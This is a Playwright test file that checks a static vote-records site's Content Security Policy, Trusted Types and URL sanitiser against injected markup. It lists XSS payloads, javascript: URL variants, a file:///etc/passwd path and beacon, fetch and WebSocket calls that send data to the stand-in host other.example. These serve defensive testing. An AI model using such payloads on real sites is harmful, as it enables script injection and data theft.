"""Pages that try to run what is not theirs, from a server and from a folder: nothing runs, nothing leaves."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.addresses import BOTH
from tests.browser.conftest import serve
from tests.conftest import once, publish
from tests.world import WORLD, lay

WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
"""

TOLD = """
async (before) => {
  for (let waits = 0; violations.length === before && waits < 100; waits += 1) {
    await new Promise((go) => setTimeout(go, 20));
  }
  return violations.slice(before);
}
"""
"""What was reported after so many reports; waits two seconds for it. The policy forbids what Playwright waits with."""

WRITTEN = {
    "<script>ran = true</script>": "script-src-elem",
    "<script src='https://other.example/a.js'></script>": "script-src-elem",
    "<script src='data:text/javascript,ran=true'></script>": "script-src-elem",
    "<img src='x.svg' onerror='ran = true'>": "script-src-attr",
    "<img src='https://other.example/a.png'>": "img-src",
    "<link rel='stylesheet' href='https://other.example/a.css'>": "style-src-elem",
    "<style>body { display: none }</style>": "style-src-elem",
    "<p style='display: none'>x</p>": "style-src-attr",
    "<iframe src='https://other.example/'></iframe>": "frame-src",
    "<object data='https://other.example/'></object>": "object-src",
    "<video src='https://other.example/a.mp4'></video>": "media-src",
    "<base href='https://other.example/'>": "base-uri",
}
"""What stands in a page if escaping fails, and what of the policy forbids it."""

DONE = {
    "put('a', { href: 'javascript:ran = true' }).click()": "script-src-elem",
    "setTimeout(() => eval('ran = true'))": "require-trusted-types-for",
    "setTimeout('ran = true')": "require-trusted-types-for",
    "document.body.innerHTML += '<b>x</b>'": "require-trusted-types-for",
    "put('script', { src: 'assets/search.js' })": "require-trusted-types-for",
    "trustedTypes.createPolicy('other', {})": "trusted-types",
    "fetch('https://other.example/').catch(() => {})": "connect-src",
    "navigator.sendBeacon('https://other.example/', 'x')": "connect-src",
    "new WebSocket('wss://other.example/')": "connect-src",
    "put('form', { action: 'https://other.example/' }).submit()": "form-action",
    "new FontFace('x', 'url(https://other.example/a.woff2)').load().catch(() => {})": "font-src",
    "put('button', {}, { onclick: 'ran = true' }).click()": "require-trusted-types-for",
}
"""What a script that ran all the same would try next."""

TOOLS = """
window.ran = false;
window.put = (tag, properties, attributes = {}) => {
  const made = Object.assign(document.createElement(tag), properties);
  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
  document.body.append(made);
  return made;
};
"""

NAMES = ("compare", "positions", "location", "self", "keep", "data", "history", "plain", "edition", "local", "receipts")
"""Ids of votes that are also names of things which scripts use, or were once looked up by them."""


def hostile_data() -> str:
    """What a script would take for the data of a comparison, with a link that runs a script."""
    members = [{"id": each, "name": each, "href": "javascript:ran=1", "positions": "yn"} for each in "ab"]
    votes = [{"id": each, "symbol": each, "name": each, "date": "", "href": "javascript:ran=1"} for each in "cd"]
    data = {"words": {}, "standings": {"y": ["yes", ""], "n": ["no", ""]}, "members": members, "votes": votes}
    return json.dumps({**data, "enough": 1})


def clashing_world() -> dict[str, str]:
    """Votes whose ids are names in scripts; the amendment of one has data for its title."""
    text = WORLD["resolutions/resolution-1.yaml"]
    head, rest = text.split("amendments:\n")
    title = json.dumps(hostile_data())
    amendments = "".join(
        f"  - id: {each}\n    title: {title if each == 'positions' else each}\n    by: unknown\n" for each in NAMES
    )
    votes = "".join(
        f"  - id: {each}\n    on: [{each}]\n    rule: substantive\n"
        "    stated: {result: rejected, yes: 2, vetoed_by: [FRA]}\n    roll_call: {no: [FRA], rest: unknown}\n"
        for each in NAMES
    )
    adoption = rest.split("  - id: adoption")[1]
    return {
        **WORLD,
        "resolutions/resolution-1.yaml": f"{head}amendments:\n{amendments}votes:\n{votes}  - id: adoption{adoption}",
    }


@pytest.fixture(scope="session")
def clashing_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    def make(root: Path) -> Path:
        lay(root, world=clashing_world())
        return publish(root)

    return once(tmp_path_factory, "clashing", make)


@pytest.fixture(scope="session")
def small_address(small_site: Path) -> Iterator[str]:
    yield from serve(small_site)


def start(request: pytest.FixtureRequest, how: str, site: str) -> str:
    """Return where a site begins: on a server, or in a folder."""
    folder: Path = request.getfixturevalue(f"{site}_site")
    return f"{folder.as_uri()}/" if how == "folder" else request.getfixturevalue(f"{site}_address")


def test_scripts_take_no_data_from_content(page: Page, clashing_site: Path) -> None:
    for language in ("", "de/"):
        page.goto(f"{clashing_site.as_uri()}/{language}votes/resolution-1.html")
        assert page.locator("#positions").inner_text().startswith('{"words"'), "the heading reads as data"
        assert page.locator("#compare select").count() == 0
        assert page.locator("[href^='javascript:' i]").count() == 0
        assert page.locator(".search-open").is_visible(), "scripts run to their end"


ELSEWHERE = """javascript:ran=1
 JaVaScRiPt:ran=1
java\tscript:ran=1
data:text/html,x
//other.example/
https://other.example/a
\\\\other.example\\a
blob:x
vbscript:x
http://[
file:///etc/passwd
../../../a.html
../../index.html""".splitlines()


@pytest.mark.parametrize("how", ["server", "folder"])
def test_an_address_that_is_not_of_this_site_is_not_set(page: Page, request: pytest.FixtureRequest, how: str) -> None:
    address = start(request, how, "small")
    page.goto(f"{address}de/votes/resolution-1.html")
    for wrong in ELSEWHERE:
        assert page.evaluate("address => local(address)", wrong) == "#", wrong
    assert page.evaluate("local('../states/NOR.html#x')") == f"{address}de/states/NOR.html#x"


@pytest.fixture(scope="session")
def broken_site(small_site: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A site in whose pages hostile markup stands as it is, each piece in one."""

    def make(root: Path) -> Path:
        site = shutil.copytree(small_site, root / "site")
        whole = (site / "index.html").read_text("utf-8")
        for number, markup in enumerate(WRITTEN):
            (site / f"{number}.html").write_text(whole.replace("<article", f"{markup}<article", 1), "utf-8")
        return site

    return once(tmp_path_factory, "broken", make)


@pytest.fixture(scope="session")
def broken_address(broken_site: Path) -> Iterator[str]:
    yield from serve(broken_site)


@pytest.mark.parametrize("how", ["server", "folder"])
def test_what_a_page_may_not_do_is_blocked(browser: Browser, request: pytest.FixtureRequest, how: str) -> None:
    context = browser.new_context()
    page = context.new_page()
    answered: list[str] = []
    page.on("response", lambda response: answered.append(response.url))
    page.add_init_script(WATCH)
    address = start(request, how, "broken")
    for number, (markup, directive) in enumerate(WRITTEN.items()):
        page.goto(f"{address}{number}.html")
        assert directive in page.evaluate(TOLD, 0), markup
        assert page.evaluate("'ran' in window") is False, markup
    page.goto(f"{address}index.html")
    page.evaluate(TOOLS)
    for attack, directive in DONE.items():
        before = page.evaluate("violations.length")
        page.evaluate(f"() => {{ try {{ {attack} }} catch (error) {{ window.said = String(error) }} }}")
        assert directive in page.evaluate(TOLD, before), attack
    assert page.evaluate("ran") is False
    assert page.url == f"{address}index.html"
    context.close()
    assert [url for url in answered if "other.example" in url] == []


@pytest.mark.parametrize("how", ["server", "folder"])
def test_pages_do_nothing_that_is_forbidden(page: Page, request: pytest.FixtureRequest, how: str) -> None:
    page.add_init_script(WATCH)
    address = start(request, how, "real")
    for kind in BOTH[::10]:  # that all kinds load without a violation is seen where they are compared without scripts
        page.goto(address + kind)
        assert page.evaluate("violations") == [], kind
        page.locator(".search-open").click()
        page.locator("dialog.search input").fill("a")
        expect(page.locator(".search-results a").first).to_be_visible()
        assert page.evaluate("violations") == [], kind
